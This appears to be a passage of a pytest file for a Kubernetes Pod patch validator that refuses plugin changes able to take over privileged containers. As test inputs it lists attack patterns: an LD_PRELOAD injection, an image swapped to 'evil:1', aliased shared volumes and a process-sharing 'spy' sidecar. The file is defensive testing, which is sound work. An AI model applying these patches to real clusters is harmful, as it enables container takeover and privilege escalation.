        [op("add", f"{FILL}/env", [{"name": "LD_PRELOAD", "value": "/src/x.so"}])],
        f"{FILL}/env",
        "changes the env of initContainer 'fill'",
    ),
    "a read-only mount of the template made writable": (
        [op("remove", f"{FILL}/volumeMounts/1/readOnly")],
        f"{FILL}/volumeMounts",
        "changes the volumeMounts of initContainer 'fill'",
    ),
    "the engine given a writable mount": (
        [op("add", f"{ENGINE}/volumeMounts", [{"name": "tools", "mountPath": "/t"}])],
        f"{ENGINE}/volumeMounts/0",
        f"lets container 'engine' write {OF_AGENT}",
    ),
    "what the filler copies from (a writer of a writer)": (
        [
            op(
                "add",
                "/spec/containers/-",
                {**WRITER, "volumeMounts": [{"name": "source", "mountPath": "/s"}]},
            )
        ],
        "/spec/containers/2",
        "adds container 'plugin', which writes volume 'source' that initContainer 'fill' mounts, "
        f"which writes {OF_AGENT}",
    ),
    "the image of the writer of the writer": (
        [op("replace", "/spec/initContainers/0/image", "evil:1")],
        "/spec/initContainers/0/image",
        "changes the image of initContainer 'fetch', which writes volume 'source'",
    ),
    "the volume the filler copies from replaced": (
        [op("replace", "/spec/volumes/1", {**PAYLOAD, "name": "source"})],
        "/spec/volumes/1",
        "changes the volume 'source' of initContainer",
    ),
}


@pytest.mark.parametrize(("ops", "path", "says"), list(FEEDS.values()), ids=list(FEEDS))
def test_what_writes_a_volume_a_privileged_container_mounts_may_not_change(
    ops: Ops, path: str, says: str
) -> None:
    refused(fed(), ops, path, says, *WRITES, allow_privileged_container_changes=True)


def test_a_writer_of_a_volume_of_a_granted_container_names_its_grant() -> None:
    pod = template(agent(capabilities={"add": ["SYS_ADMIN"]}), volumes=[STATE])
    refused(
        pod,
        [
            op(
                "add",
                "/spec/initContainers",
                [{**WRITER, "volumeMounts": [{"name": "state", "mountPath": "/s"}]}],
            )
        ],
        "/spec/initContainers/0",
        "writes volume 'state' that container 'agent' mounts, which adds capability SYS_ADMIN",
        "or let plugins add that privilege: patchPolicy.allowedCapabilities)",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )


NOT_FEEDS: dict[str, tuple[Ops, dict[str, Any]]] = {
    "a sidecar that reads the volume": (
        [
            op(
                "add",
                "/spec/containers/-",
                {
                    **WRITER,
                    "volumeMounts": [{"name": "tools", "mountPath": "/t", "readOnly": True}],
                },
            )
        ],
        {},
    ),
    "a sidecar writing a volume of its own": (
        [
            op("add", "/spec/volumes/-", {"name": "own", "emptyDir": {}}),
            op(
                "add",
                "/spec/containers/-",
                {**WRITER, "volumeMounts": [{"name": "own", "mountPath": "/o"}]},
            ),
        ],
        {},
    ),
    "the engine's env (it mounts no volume of the agent)": (
        [op("add", f"{ENGINE}/env", [{"name": "A", "value": "1"}])],
        {},
    ),
    "the filler's resources": (
        [op("add", f"{FILL}/resources", {"limits": {"cpu": "1"}})],
        {},
    ),
    "a privilege the policy lets plugins add": (
        [op("add", "/spec/initContainers/-", WRITER)],
        {"allow_privileged": True},
    ),
}


@pytest.mark.parametrize(("ops", "policy"), list(NOT_FEEDS.values()), ids=list(NOT_FEEDS))
def test_what_feeds_no_privileged_container_passes(ops: Ops, policy: dict[str, Any]) -> None:
    passes(fed(), ops, **{"allowed_paths": OPEN, **policy})


SHARED_CLAIM = {"name": "tools", "persistentVolumeClaim": {"claimName": "shared"}}
NFS_CSI = {
    "name": "tools",
    "csi": {"driver": "nfs.csi.k8s.io", "volumeAttributes": {"share": "/t"}},
}

# Found by a red-team helper: a second volume of the storage a privileged container runs from,
# under another name, let a plugin write that storage (writers were followed by volume name).
ALIASES: dict[str, tuple[dict[str, Any], dict[str, Any], Ops, str]] = {
    "a second volume of the claim, written by a new sidecar": (
        SHARED_CLAIM,
        {"name": "data2", "persistentVolumeClaim": {"claimName": "shared", "readOnly": False}},
        [
            op(
                "add",
                "/spec/containers/-",
                {**WRITER, "volumeMounts": [{"name": "data2", "mountPath": "/d"}]},
            )
        ],
        "/spec/containers/2",
    ),
    "a second volume of the claim, given to the engine": (
        SHARED_CLAIM,
        {"name": "data2", "persistentVolumeClaim": {"claimName": "shared"}},
        [op("add", f"{ENGINE}/volumeMounts", [{"name": "data2", "mountPath": "/d"}])],
        f"{ENGINE}/volumeMounts/0",
    ),
    "an inline CSI volume of the driver, other attributes": (
        NFS_CSI,
        {"name": "data2", "csi": {"driver": "nfs.csi.k8s.io", "volumeAttributes": {"share": "/"}}},
        [
            op(
                "add",
                "/spec/initContainers",
                [{**WRITER, "volumeMounts": [{"name": "data2", "mountPath": "/d"}]}],
            )
        ],
        "/spec/initContainers/0",
    ),
    "an NFS export (any NFS volume may name the same files)": (
        {"name": "tools", "nfs": {"server": "files", "path": "/exports/tools"}},
        {"name": "data2", "nfs": {"server": "files.example", "path": "/exports"}},
        [
            op(
                "add",
                "/spec/containers/-",
                {**WRITER, "volumeMounts": [{"name": "data2", "mountPath": "/d"}]},
            )
        ],
        "/spec/containers/2",
    ),
}


@pytest.mark.parametrize(
    ("runs_from", "alias", "ops", "path"), list(ALIASES.values()), ids=list(ALIASES)
)
def test_another_volume_of_the_same_storage_is_the_same_volume(
    runs_from: dict[str, Any], alias: dict[str, Any], ops: Ops, path: str
) -> None:
    pod = template(RUNNER, volumes=[runs_from])
    ops = [op("add", "/spec/volumes/-", alias), *ops]
    # the volume itself is allowed (its type, its driver): what the new name is written for is not
    policy: dict[str, Any] = {
        "allowed_paths": OPEN,
        "allowed_volume_types": [*RESTRICTED_VOLUME_TYPES, "nfs"],
        "allowed_csi_drivers": ["nfs.csi.k8s.io"],
    }
    with pytest.raises(PatchRejected) as info:
        PatchValidator(PatchPolicy(**policy)).apply(pod, ops)
    assert info.value.path == path, info.value
    assert f"volume 'data2', the storage of {OF_AGENT}" in info.value.reason
    for text in WRITES:
        assert text in info.value.reason
    allowed = PatchValidator(PatchPolicy(**policy, allow_privileged_container_changes=True))
    assert allowed.apply(pod, ops) == expected(pod, ops)


def test_a_writer_of_another_name_for_the_storage_in_the_template_is_protected() -> None:
    """The template's own sidecar writes the claim the privileged container runs from, under
    another volume name: what runs in it may not change."""
    sidecar = {
        **WRITER,
        "name": "sync",
        "image": "sync:1",
        "volumeMounts": [{"name": "data2", "mountPath": "/d"}],
    }
    pod = template(
        RUNNER,
        sidecar,
        volumes=[SHARED_CLAIM, {"name": "data2", "persistentVolumeClaim": {"claimName": "shared"}}],
    )
    refused(
        pod,
        [op("replace", "/spec/containers/2/image", "evil:1")],
        "/spec/containers/2/image",
        "changes the image of container 'sync', which writes volume 'data2', the storage of "
        "volume 'tools' that container 'agent' mounts",
        allow_privileged_container_changes=True,
    )


NOT_ALIASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "another claim": (
        SHARED_CLAIM,
        {"name": "data2", "persistentVolumeClaim": {"claimName": "other"}},
    ),
    "another CSI driver": (NFS_CSI, {"name": "data2", "csi": {"driver": "ebs.csi.aws.com"}}),
    "an emptyDir beside an emptyDir": (TOOLS, {"name": "data2", "emptyDir": {}}),
    "a claim beside an inline CSI volume": (
        NFS_CSI,
        {"name": "data2", "persistentVolumeClaim": {"claimName": "x"}},
    ),
}


@pytest.mark.parametrize(("runs_from", "other"), list(NOT_ALIASES.values()), ids=list(NOT_ALIASES))
def test_a_volume_of_other_storage_may_be_written(
    runs_from: dict[str, Any], other: dict[str, Any]
) -> None:
    pod = template(RUNNER, volumes=[runs_from])
    sidecar = {**WRITER, "volumeMounts": [{"name": "data2", "mountPath": "/d"}]}
    passes(
        pod,
        [op("add", "/spec/volumes/-", other), op("add", "/spec/containers/-", sidecar)],
        allowed_paths=OPEN,
        allowed_volume_types=["persistentVolumeClaim", "csi", "emptyDir"],
        allowed_claims=["other", "x"],
        allowed_csi_drivers=["ebs.csi.aws.com"],
    )


def test_a_new_writer_of_the_templates_other_name_for_the_storage_is_named_so() -> None:
    """The template has a second volume of the claim that no container mounts; a plugin's
    sidecar that writes it is refused, the message naming the volume the privileged container
    mounts (found by a review helper: it named the unmounted one as mounted)."""
    alias = {"name": "data2", "persistentVolumeClaim": {"claimName": "shared"}}
    pod = template(RUNNER, volumes=[SHARED_CLAIM, alias])
    sidecar = {**WRITER, "volumeMounts": [{"name": "data2", "mountPath": "/d"}]}
    refused(
        pod,
        [op("add", "/spec/containers/-", sidecar)],
        "/spec/containers/2",
        f"adds container 'plugin', which writes volume 'data2', the storage of {OF_AGENT}",
        allow_privileged_container_changes=True,
    )


def test_a_read_only_mount_of_another_name_for_the_storage_passes() -> None:
    pod = template(RUNNER, volumes=[SHARED_CLAIM])
    reader = {**WRITER, "volumeMounts": [{"name": "data2", "mountPath": "/d", "readOnly": True}]}
    alias = {"name": "data2", "persistentVolumeClaim": {"claimName": "shared"}}
    passes(
        pod,
        [op("add", "/spec/volumes/-", alias), op("add", "/spec/containers/-", reader)],
        allowed_paths=OPEN,
    )


def test_storage_names_what_other_volumes_may_share() -> None:
    assert takeover.storage(SHARED_CLAIM) == ("persistentVolumeClaim", "shared")
    assert takeover.storage(NFS_CSI) == ("csi", "nfs.csi.k8s.io")
    assert takeover.storage({"name": "n", "nfs": {"server": "a", "path": "/"}}) == ("nfs",)
    for own in ({"name": "e", "emptyDir": {}}, {"name": "e", "ephemeral": {}}, {"name": "e"}):
        assert takeover.storage(own) is None


def test_read_only_volume_types_and_host_paths_have_no_writers() -> None:
    """The kubelet mounts ConfigMap, Secret, downwardAPI and projected volumes read-only; a
    hostPath volume is the HostPath control's (mounting it is refused by allowHostPath)."""
    pod = template(
        {**RUNNER, "volumeMounts": [{"name": "payload", "mountPath": "/opt/tools"}]},
        volumes=[PAYLOAD],
    )
    sidecar = {**WRITER, "volumeMounts": [{"name": "payload", "mountPath": "/p"}]}
    passes(pod, [op("add", "/spec/containers/-", sidecar)], allowed_paths=OPEN)
    pod["spec"]["volumes"] = [
        {"name": "payload", "hostPath": {"path": "/opt/tools", "type": "Directory"}}
    ]
    with pytest.raises(PatchRejected, match="weakens Pod Security control 'HostPath Volumes'"):
        PatchValidator(PatchPolicy(allowed_paths=OPEN)).apply(
            pod, [op("add", "/spec/containers/-", sidecar)]
        )


NOT_TAKEOVERS: dict[str, tuple[dict[str, Any], Ops, dict[str, Any]]] = {
    "env of the unprivileged container next to it": (
        template(agent(), volumes=[STATE]),
        [op("add", f"{ENGINE}/env", [{"name": "A", "value": "1"}])],
        {},
    ),
    "resources, ports and an httpGet probe of the privileged one": (
        template(agent(), volumes=[STATE]),
        [
            op("add", f"{AGENT}/resources", {"limits": {"nvidia.com/gpu": "1"}}),
            op("add", f"{AGENT}/ports", [{"containerPort": 9000}]),
            op("add", f"{AGENT}/readinessProbe", {"httpGet": {"port": 9000}}),
        ],
        {},
    ),
    "a volume it does not mount": (
        template(agent(), volumes=[STATE]),
        [op("add", "/spec/volumes/-", PAYLOAD)],
        {},
    ),
    "a grant the policy lets plugins add": (
        template(agent(), volumes=[STATE]),
        [op("add", f"{AGENT}/env", [{"name": "A", "value": "1"}])],
        {"allow_privileged": True},
    ),
    "IPC_LOCK where the policy lists it": (
        template(agent(capabilities={"add": ["IPC_LOCK"]}), volumes=[STATE]),
        [op("add", f"{AGENT}/volumeMounts/-", {"name": "state", "mountPath": "/dev/hugepages"})],
        {"allowed_capabilities": [*BASELINE_CAPABILITIES, "IPC_LOCK"]},
    ),
    "IPC_LOCK, which reaches nothing beyond the container": (
        template(agent(capabilities={"add": ["IPC_LOCK"]}), volumes=[STATE]),
        [op("add", f"{AGENT}/volumeMounts/-", {"name": "state", "mountPath": "/dev/hugepages"})],
        {},
    ),
    "a read-only hostPath mount (drivers, a model cache)": (
        _read_only_host_mount(),
        [op("add", f"{AGENT}/env", [{"name": "ASCEND_VISIBLE_DEVICES", "value": "0"}])],
        {},
    ),
    "a baseline capability": (
        template(agent(capabilities={"add": ["NET_BIND_SERVICE"]}), volumes=[STATE]),
        [op("add", f"{AGENT}/env", [{"name": "A", "value": "1"}])],
        {},
    ),
    "the Pod's own grant, which any sidecar gets": (
        template(
            agent(allowPrivilegeEscalation=False), volumes=[STATE], securityContext={"runAsUser": 0}
        ),
        [op("add", f"{AGENT}/env", [{"name": "A", "value": "1"}])],
        {"allowed_paths": OPEN, "allow_run_as_root": False},
    ),
    "privileges taken away with the change": (
        template(agent(), volumes=[STATE]),
        [
            op("replace", f"{AGENT}/securityContext", RESTRICTED),
            op("replace", f"{AGENT}/image", "other:1"),
        ],
        {"allowed_paths": OPEN},
    ),
}


@pytest.mark.parametrize(
    ("pod", "ops", "policy"), list(NOT_TAKEOVERS.values()), ids=list(NOT_TAKEOVERS)
)
def test_changes_that_take_over_nothing_pass(
    pod: dict[str, Any], ops: Ops, policy: dict[str, Any]
) -> None:
    passes(pod, ops, **policy)


# --- the operations each check skips -----------------------------------------------------------

SEGMENTS = st.sampled_from(
    [
        "metadata", "labels", "spec", "containers", "initContainers", "0", "1", "-", "name",
        "env", "envFrom", "image", "command", "args", "resources", "ports", "securityContext",
        "volumes", "volumeMounts", "volumeDevices", "lifecycle", "livenessProbe", "exec",
        "secret", "secretName", "projected", "sources", "serviceAccountToken", "audience",
        "valueFrom", "secretKeyRef", "secretRef", "imagePullSecrets", "nodeName", "hostUsers",
        "serviceAccountName", "serviceAccount", "automountServiceAccountToken", "nodeSelector",
        "shareProcessNamespace", "workingDir", "tolerations",
    ]
)  # fmt: skip
VALUES = st.sampled_from(
    [
        None, True, False, 0, "x", "admin", [], {}, ["x"], [{"name": "x"}],
        {"name": "s", "secret": {"secretName": "y"}},
        {"name": "agent", "image": "evil"},
        {"secretKeyRef": {"name": "y"}}, {"name": "y"}, {"secretName": "y"},
        [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "y"}}}],
        {"sources": [{"serviceAccountToken": {"audience": "a"}}]},
        {"command": ["x"]}, [{"name": "state", "mountPath": "/bin"}],
        {"name": "T", "value": "v"}, [{"name": "T", "value": "v"}],
        {"name": "T", "valueFrom": {"secretKeyRef": {"name": "y"}}},
        {"name": "T", "valueFrom": {"fieldRef": {"fieldPath": "x"}}},
    ]
)  # fmt: skip
RICH_POD = template(
    {**agent(), "env": [{"name": "S", "valueFrom": {"secretKeyRef": {"name": "s"}}}]},
    volumes=[
        STATE,
        {"name": "t", "projected": {"sources": [token("a"), {"secret": {"name": "p"}}]}},
    ],
    imagePullSecrets=[{"name": "pull"}],
    serviceAccountName="engine",
    nodeName="n1",
)


def _applied(pod: dict[str, Any], name: str, path: str, value: Any) -> tuple[dict[str, Any], Any]:
    """The operation ``name`` at ``path`` (with ``value`` unless a removal) and the Pod it
    makes of ``pod``: None when it does not apply."""
    patch: dict[str, Any] = {"op": name, "path": path}
    if name != "remove":
        patch["value"] = value
    try:
        return patch, apply_one(pod, patch)  # type: ignore[arg-type]
    except PatchRejected:
        return patch, None


@settings(max_examples=1500, deadline=None)
@given(
    name=st.sampled_from(["add", "remove", "replace"]),
    segments=st.lists(SEGMENTS, min_size=1, max_size=5),
    value=VALUES,
)
def test_operations_the_checks_skip_change_nothing_they_read(
    name: str, segments: list[str], value: Any
) -> None:
    """The validator skips the access check for operations ``access.may_change`` calls neutral,
    and the takeover check for those ``takeover.may_change`` does: for any operation, a change in
    what either reads implies it was not called neutral."""
    patch, after = _applied(RICH_POD, name, "".join("/" + s for s in segments), value)
    if not isinstance(after, dict):
        return
    # what the check refuses is a fact the template lacks (one per Secret, wherever it is)
    if access.access_facts(after).keys() - access.access_facts(RICH_POD).keys():
        assert access.may_change(patch)  # type: ignore[arg-type]
    subjects = [s for s, *_ in takeover.containers(RICH_POD)]
    if next(takeover.changes(RICH_POD, after, subjects), None):
        assert takeover.may_change(patch)  # type: ignore[arg-type]


def test_a_container_added_to_a_pod_that_shares_its_processes_with_a_privileged_one() -> None:
    sidecar = {"name": "spy", "image": "spy:1", "securityContext": dict(RESTRICTED)}
    ops = [op("add", "/spec/containers/-", sidecar)]
    shared = template(agent(), volumes=[STATE], shareProcessNamespace=True)
    refused(
        shared,
        ops,
        "/spec/containers/2",
        "adds container 'spy', which shares the Pod's processes with container 'agent'",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )
    # not shared: the new container sees only its own processes
    PatchValidator(PatchPolicy(allowed_paths=OPEN)).apply(template(agent(), volumes=[STATE]), ops)


ENV_TAIL: st.SearchStrategy[list[str]] = st.just([]) | st.tuples(
    st.sampled_from(["0", "1", "2", "-"]),
    st.sampled_from(
        [
            [], ["name"], ["value"], ["valueFrom"], ["valueFrom", "fieldRef"],
            ["valueFrom", "secretKeyRef"], ["valueFrom", "secretKeyRef", "name"],
            ["valueFrom", "secretKeyRef", "key"], ["valueFrom", "secretKeyRef", "name", "0"],
        ]
    ),
).map(lambda t: [t[0], *t[1]])  # fmt: skip
ENV_VALUES = st.sampled_from(
    [
        None, "x", "admin", ["a"], {}, {"name": "y"}, {"secretKeyRef": {"name": "y"}},
        {"fieldRef": {"fieldPath": "a"}}, {"name": "T", "value": "v"},
        {"name": "T", "valueFrom": {"secretKeyRef": {"name": "y"}}},
        [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "y"}}}], [{"name": "T"}],
    ]
)  # fmt: skip
ENV_POD = template(
    {
        "name": "side",
        "image": "s:1",
        "env": [
            {"name": "S", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}},
            {"name": "P", "value": "1"},
            {"name": "L", "valueFrom": {"secretKeyRef": {"name": ["a", "b"]}}},
        ],
    }
)


@settings(max_examples=1500, deadline=None)
@given(
    name=st.sampled_from(["add", "remove", "replace"]),
    container=st.sampled_from(["0", "1"]),
    tail=ENV_TAIL,
    value=ENV_VALUES,
)
def test_env_operations_judged_neutral_reference_no_new_secret(
    name: str, container: str, tail: list[str], value: Any
) -> None:
    """Deep into a container's env (a variable's valueFrom and secretKeyRef): an operation
    ``access.may_change`` calls neutral never gives the Pod a fact the template lacks."""
    path = f"/spec/containers/{container}/env" + "".join("/" + s for s in tail)
    patch, after = _applied(ENV_POD, name, path, value)
    if not isinstance(after, dict):
        return
    if access.access_facts(after).keys() - access.access_facts(ENV_POD).keys():
        assert access.may_change(patch)  # type: ignore[arg-type]
